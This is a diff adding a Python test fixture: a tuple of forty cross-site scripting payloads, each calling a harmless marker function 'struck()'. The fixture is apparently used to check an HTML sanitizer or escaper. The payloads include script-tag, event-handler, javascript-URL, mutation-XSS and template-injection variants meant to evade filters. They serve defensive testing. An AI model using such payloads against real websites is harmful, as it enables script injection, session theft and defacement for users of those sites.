@@ -1,0 +1,48 @@
+"""Forty ways in which words try to become a script; each calls `struck` if it succeeds."""
+
+from __future__ import annotations
+
+from typing import Final
+
+PAYLOADS: Final = (
+    "<script>struck()</script>",
+    "<ScRiPt >struck()</ScRiPt>",
+    "</script><script>struck()</script>",
+    "</title><script>struck()</script>",
+    "</textarea><script>struck()</script>",
+    "</style><script>struck()</script>",
+    "--><script>struck()</script><!--",
+    "]]><script>struck()</script>",
+    "<scr<script>ipt>struck()</scr</script>ipt>",
+    "<script/x>struck()</script>",
+    "<script src=data:,struck()></script>",
+    "<svg><script>struck()</script></svg>",
+    "<svg><script xlink:href=data:,struck() /></svg>",
+    "<svg onload=struck()>",
+    "<svg/onload=struck()//",
+    "<svg><animate onbegin=struck() attributeName=x dur=1s>",
+    "<img src=x onerror=struck()>",
+    '"><img src=x onerror=struck()>',
+    "'><img src=x onerror=struck()>",
+    "<img src=x:x onerror\t=struck()>",
+    "<img/src=x/onerror=struck()>",
+    "<image src=x onerror=struck()>",
+    "<video><source onerror=struck()></video>",
+    "<video src=x onerror=struck()></video>",
+    "<audio src=x onerror=struck()></audio>",
+    "<body onload=struck()>",
+    "<iframe srcdoc='<script>parent.struck()</script>'></iframe>",
+    "<iframe src=javascript:parent.struck()></iframe>",
+    "<object data=data:text/html,<script>struck()</script>></object>",
+    "<details open ontoggle=struck()>",
+    "<input autofocus onfocus=struck()>",
+    '" autofocus onfocus=struck() x="',
+    "' autofocus onfocus=struck() x='",
+    "<marquee onstart=struck()>",
+    "<style onload=struck()></style>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=struck()>",
+    "<a href=javascript:struck() autofocus>x</a>",
+    "{{constructor.constructor('struck()')()}}",
+    "\\u003cscript\\u003estruck()\\u003c/script\\u003e",
+    "&lt;script&gt;struck()&lt;/script&gt;",
+)
